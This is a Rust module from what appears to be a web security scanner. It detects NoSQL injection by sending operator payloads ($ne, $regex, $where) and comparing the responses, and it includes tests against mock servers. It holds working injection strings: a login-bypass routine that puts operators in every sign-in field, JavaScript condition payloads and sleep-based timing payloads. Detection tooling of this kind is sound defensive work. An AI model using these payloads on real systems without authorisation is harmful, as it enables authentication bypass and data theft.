//! Values that become operators or scripts of a document database.

use futures_util::FutureExt;
use futures_util::future::BoxFuture;

use super::choice::Choice;
use super::facts::{Facts, facts};
use super::marks::Marks;
use super::messages::{self, Family};
use super::timing;
use crate::checks::{About, Bench, Check, Entry};
use crate::http::Request;
use crate::point::{Coding, Place, Point, Put};
use crate::proof::{Expect, Proof};

/// See [`About`].
pub(super) struct Nosql;

static ABOUT: About = About {
    name: "nosql-injection",
    qids: &[990_001],
    means: "A value reaches a document database as an operator or as a script, so that the sender of the request can change \
            what is asked for.",
    matters: "Conditions such as `is not equal` let a sign-in pass without a password and show what belongs to others; scripts \
              read the database letter by letter.",
    remedy: "Check that a value is text or a number before it goes into a query; refuse objects and names that begin with a \
             dollar sign. Switch the evaluation of scripts off in the database.",
    technique: "Operators that match everything and operators that match nothing are put in, two of each, as JSON objects and \
                as names of fields; or conditions of a script, true and false, of the same letters. They must be answered \
                differently, again and again.",
    source: "CWE-943",
};

impl Check for Nosql {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn probe<'a>(
        &'a self,
        bench: &'a Bench<'a>,
        entry: &'a Entry,
        point: &'a Point,
    ) -> Option<BoxFuture<'a, ()>> {
        (!point.is_guess()).then(|| probe(bench, entry, point).boxed())
    }

    fn try_entry<'a>(&'a self, bench: &'a Bench<'a>, entry: &'a Entry) -> Option<BoxFuture<'a, ()>> {
        let fields: Vec<Point> = entry.request.points().into_iter().filter(takes_operators).collect();
        let is_login = fields.iter().any(is_secret);
        (is_login && (2..=4).contains(&fields.len())).then(|| together(bench, entry, fields).boxed())
    }
}

/// Whether a field is for what only its owner knows.
fn is_secret(point: &Point) -> bool {
    let name = point.name.rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
    ["pass", "pwd", "secret"].iter().any(|word| name.contains(word))
        || ["pin", "otp", "code", "pw", "psw"].contains(&name.as_str())
}

fn takes_operators(point: &Point) -> bool {
    matches!(point.place, Place::Json(_) | Place::Form(_) | Place::Query(_)) && !point.value.starts_with("{{")
}

/// All fields of a sign-in at once: a name that is not there lets no operator for the password show.
async fn together(bench: &Bench<'_>, entry: &Entry, fields: Vec<Point>) {
    let path = &entry.request.url.path;
    let Some(last) = fields.iter().find(|point| is_secret(point)) else { return };
    if fields.iter().any(|point| bench.sink.has_at(&[990_001], path, &point.name)) {
        return;
    }
    let token = Marks::of(entry, last).token;
    let all = |name: &str, value: &str| -> Option<(Request, String)> {
        let mut request = entry.request.clone();
        for point in &fields {
            request = operator(&request, point, name, &serde_json::Value::from(value))?.0;
        }
        Some((request, operator(&entry.request, last, name, &serde_json::Value::from(value))?.1))
    };
    let choice = || {
        Some(Choice {
            yes: [all("$ne", &token)?, all("$gte", "")?],
            no: [all("$eq", &token)?, all("$lt", "")?],
            more: others(&token)
                .iter()
                .map(|word| Some([all("$ne", word)?, all("$eq", word)?]))
                .collect::<Option<_>>()?,
        })
    };
    let Some(choice) = choice() else { return };
    if let Some((payload, proof)) = choice.prove(bench, entry).await {
        bench.report_at(990_001, entry, Some((last, &payload)), proof);
    }
}

/// Other words that are nowhere, of several lengths.
fn others(token: &str) -> [String; 5] {
    ["a", "bcd", "efghi", "jk", "lmno"].map(|end| format!("{token}{end}"))
}

/// A request with an operator at a point, as a JSON object or by the name of the field; none where the place takes neither.
fn operator(
    request: &Request,
    point: &Point,
    name: &str,
    value: &serde_json::Value,
) -> Option<(Request, String)> {
    if matches!(point.place, Place::Json(_) | Place::Within(_, Coding::Json { .. })) {
        let object = serde_json::json!({ name: value }).to_string();
        return Some((request.with(point, Put::Raw(&object)), object));
    }
    let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
    let field = format!("{}[{name}]", point.name);
    let changed = request.with(point, &text).renamed(point, &field)?;
    Some((changed, format!("{field}={text}")))
}

/// `===` is known to JavaScript and to no SQL.
const YES: [&str; 2] = ["(37<73)===true", "(73<37)===false"];
const NO: [&str; 2] = ["(73<37)===true", "(37<73)===false"];

const SCRIPTS: &[&str] = &[
    "{v}' && {c} && 'a'=='a",
    "{v}'||{c}||'a'=='b",
    "zq'||{c}||'",
    "{v}\" && {c} && \"a\"==\"a",
    "zq\"||{c}||\"a\"==\"b",
    "{v} && {c}",
    "{v};return {c};//",
    "{v}';return {c};//",
    "zq'||{c}//",
    "{v}';return {c};var zq='",
    "zq'});return {c};//",
];

/// `===` keeps databases with SQL from taking it for theirs, where `sleep` counts seconds.
const WAITING: &[&str] = &[
    "zq'||sleep({t}*1000)===1||'",
    "{v}';sleep({t}*1000);var zq='",
    "{v}'&&sleep({t}*1000)===1&&'",
    "{v}||sleep({t}*1000)===1",
    "{v}';var zq=Date.now();while(Date.now()-zq<{t}*1000){};var zr='",
];

async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
    let Some(known) = facts(bench, entry, point).await else { return };
    if known.is_route() || known.is_settled() {
        return;
    }
    let mut found = by_operators(bench, entry, (point, &known)).await;
    let is_quiet = known.is_quiet();
    let has_error = known.errors.contains(&Family::Nosql);
    if found.is_none() && has_error {
        found = by_message(bench, entry, point).await;
    }
    if found.is_none() {
        let list = if is_quiet { SCRIPTS.get(1..3).unwrap_or_default() } else { SCRIPTS };
        for template in list {
            let choice = Choice::of((YES, NO), |condition| {
                let value = template.replace("{c}", condition).replace("{v}", &point.value);
                (entry.request.with(point, &value), value)
            });
            found = choice.prove_beside(bench, entry, (point, &known)).await;
            if found.is_some() {
                break;
            }
        }
    }
    let can_wait = point.place != Place::Cookie || !is_quiet;
    if found.is_none() && can_wait {
        found = timing::prove_first(bench, entry, point, WAITING).await;
    }
    if let Some((payload, proof)) = found {
        known.settle();
        bench.report_at(990_001, entry, Some((point, &payload)), proof);
    }
}

async fn by_message(bench: &Bench<'_>, entry: &Entry, point: &Point) -> Option<(String, Proof)> {
    let payload = format!("{}'", point.value);
    let attack = entry.request.with(point, &payload);
    let control = entry.request.with(point, &Marks::of(entry, point).token);
    let expect = Expect::BodyMatches(messages::pattern(Family::Nosql));
    let replay = entry.replay(attack, expect, control).rounds(messages::rounds(point));
    let proof = bench.prove(replay).await.ok()?;
    Some((payload, proof))
}

/// Operators for yes and for no, in the form the place allows.
async fn by_operators(
    bench: &Bench<'_>,
    entry: &Entry,
    (point, known): (&Point, &Facts),
) -> Option<(String, Proof)> {
    let token = Marks::of(entry, point).token;
    let pair = |names: [(&str, serde_json::Value); 4]| -> Option<Choice> {
        let [a, b, c, d] = names.map(|(name, value)| operator(&entry.request, point, name, &value));
        let more = others(&token).into_iter().map(|word| {
            let word = serde_json::Value::from(word);
            let put = |name: &str| operator(&entry.request, point, name, &word);
            Some([put("$ne")?, put("$eq")?])
        });
        Some(Choice { yes: [a?, b?], no: [c?, d?], more: more.collect::<Option<_>>()? })
    };
    let text = |text: &str| serde_json::Value::from(text);
    let choices = [
        // Not equal to a word that is nowhere, and not below nothing; equal to it, and below nothing.
        [("$ne", text(&token)), ("$gte", text("")), ("$eq", text(&token)), ("$lt", text(""))],
        [
            ("$regex", text(".*")),
            ("$ne", text(&token)),
            ("$regex", text(&format!("^{token}"))),
            ("$eq", text(&token)),
        ],
    ];
    if !matches!(point.place, Place::Json(_) | Place::Within(..)) && !known.is_quiet() {
        // A filter that is written as text: the later of two members of one name counts.
        for rest in ["\"$where\":\"1", "\"$comment\":\"zq"] {
            let name = &point.name;
            let put = |operator: &str, value: &str| {
                let text = format!("zq\",\"{name}\":{{\"{operator}\":\"{value}\"}},{rest}");
                (entry.request.with(point, &text), text)
            };
            let written = Choice {
                yes: [put("$ne", &token), put("$gte", "")],
                no: [put("$eq", &token), put("$lt", "")],
                more: others(&token).iter().map(|word| [put("$ne", word), put("$eq", word)]).collect(),
            };
            if let Some(found) = written.prove_beside(bench, entry, (point, known)).await {
                return Some(found);
            }
        }
    }
    for choice in choices {
        if let Some(found) = pair(choice)?.prove_beside(bench, entry, (point, known)).await {
            return Some(found);
        }
    }
    let more = if point.value.trim().parse::<f64>().is_ok() { of_numbers } else { of_patterns };
    more(&entry.request, point, &token)?.prove_beside(bench, entry, (point, known)).await
}

/// Operators on numbers: where a field is one, each value is made one, or compared with nothing else.
fn of_numbers(request: &Request, point: &Point, _token: &str) -> Option<Choice> {
    let put = |name: &str, value: i64| operator(request, point, name, &value.into());
    let more = [80_418, 9_004_173, 604_172, 7_741_903, 51_907].map(|number: i64| -> Option<_> {
        Some(if number % 2 == 1 {
            [put("$gte", -number)?, put("$lt", -number)?]
        } else {
            [put("$ne", number)?, put("$eq", number)?]
        })
    });
    Some(Choice {
        yes: [put("$ne", 90_417_203)?, put("$gte", -90_417_203)?],
        no: [put("$eq", 90_417_203)?, put("$lt", -90_417_203)?],
        more: more.into_iter().collect::<Option<_>>()?,
    })
}

/// Operators without `$ne`, which is what filters look for first.
fn of_patterns(request: &Request, point: &Point, token: &str) -> Option<Choice> {
    let put = |name: &str, value: &str| operator(request, point, name, &value.into());
    let more = others(token)
        .map(|word| Some([put("$regex", &format!("^(?!{word})"))?, put("$regex", &format!("^{word}"))?]));
    Some(Choice {
        yes: [put("$regex", ".*")?, put("$gte", "")?],
        no: [put("$regex", &format!("^{token}"))?, put("$lt", "")?],
        more: more.into_iter().collect::<Option<_>>()?,
    })
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::http::{Body, Method, Target};
    use crate::testing::{Answer, Asked, Extras, scan, scan_with, serve};

    /// The same for a number, to which all values are made.
    fn is_number(number: i64, operators: &Value) -> Option<bool> {
        let Value::Object(operators) = operators else {
            return operators.as_str()?.parse::<i64>().ok().map(|value| value == number);
        };
        let (operator, value) = operators.iter().next()?;
        let value: i64 = value.as_str()?.parse().ok()?;
        Some(match operator.as_str() {
            "$ne" => number != value,
            "$eq" => number == value,
            "$gte" => number >= value,
            "$lt" => number < value,
            _ => return None,
        })
    }

    fn matches(name: &str, filter: &Value) -> bool {
        let Value::Object(operators) = filter else { return filter == name };
        operators.iter().all(|(operator, value)| {
            let text = value.as_str().unwrap_or_default();
            match operator.as_str() {
                "$ne" => name != text,
                "$eq" => name == text,
                "$gte" => name >= text,
                "$lt" => name < text,
                "$regex" if text.starts_with("^(?!") => {
                    !name.starts_with(text.trim_start_matches("^(?!").trim_end_matches(')'))
                }
                "$regex" => regex::Regex::new(text).is_ok_and(|regex| regex.is_match(name)),
                _ => false,
            }
        })
    }

    fn answer(asked: &Asked) -> Answer {
        let filter = if asked.path.ends_with("json") {
            serde_json::from_str::<Value>(&asked.body).unwrap_or_default()["user"].clone()
        } else if asked.path.ends_with("text") {
            serde_json::from_str::<Value>(&asked.field("filter")).unwrap_or_default()["user"].clone()
        } else {
            let fields = asked.query.iter().map(|(name, value)| match name.strip_prefix("user[") {
                Some(operator) => json!({ operator.trim_end_matches(']'): value }),
                None => json!(value),
            });
            fields.into_iter().next_back().unwrap_or_default()
        };
        let filter =
            if asked.path.starts_with("/checked") && filter.is_object() { Value::Null } else { filter };
        if asked.path == "/number" {
            return Answer::html(match is_number(7, &filter) {
                Some(true) => "Ann is here",
                Some(false) => "Nobody is here",
                None => "This is no number",
            });
        }
        if asked.path == "/no-ne" && filter.get("$ne").is_some() {
            return Answer::status(403);
        }
        let found: Vec<&str> = ["ann", "bob"].into_iter().filter(|name| matches(name, &filter)).collect();
        Answer::html(if found.is_empty() { "Nobody is here".to_owned() } else { found.join(" ") })
    }

    #[tokio::test]
    async fn a_sign_in_needs_operators_in_all_fields() {
        let server = serve(|asked: &Asked| {
            let body: Value = serde_json::from_str(&asked.body).unwrap_or_default();
            let holds = |name: &str, value: &str| match asked.path.as_str() {
                "/open" => matches(value, &body[name]),
                _ => body[name] == *value,
            };
            let is_in = holds("name", "ann") && holds("password", "secret");
            Answer::html(if is_in { "Welcome, ann" } else { "Wrong name or password" })
        })
        .await;
        for (path, count) in [("/open", 1), ("/checked", 0)] {
            let url = Target::parse(&format!("http://{server}{path}")).unwrap();
            let body = Body::Json(json!({"name": "test", "password": "test"}));
            let request = Request { method: Method::Post, body, ..Request::get(url) };
            assert_eq!(scan_with(&Nosql, vec![request], Extras::default()).await.0.len(), count, "{path}");
        }
    }

    #[tokio::test]
    async fn operators_are_found_where_they_work() {
        let server = serve(answer).await;
        let text = "filter=%7B%22user%22%3A%22zed%22%7D";
        for path in ["/find?user=zed", "/number?user=99", "/no-ne?user=zed", &format!("/text?{text}")] {
            assert_eq!(scan(&Nosql, server, path).await.len(), 1, "{path}");
        }
        for path in ["/checked?user=zed", &format!("/checked-text?{text}")] {
            assert!(scan(&Nosql, server, path).await.is_empty(), "{path}");
        }
        for (path, count) in [("/json", 1), ("/checked-json", 0)] {
            let url = Target::parse(&format!("http://{server}{path}")).unwrap();
            let request = Request {
                method: Method::Post,
                body: Body::Json(json!({"user": "zed"})),
                ..Request::get(url)
            };
            assert_eq!(scan_with(&Nosql, vec![request], Extras::default()).await.0.len(), count, "{path}");
        }
    }
}
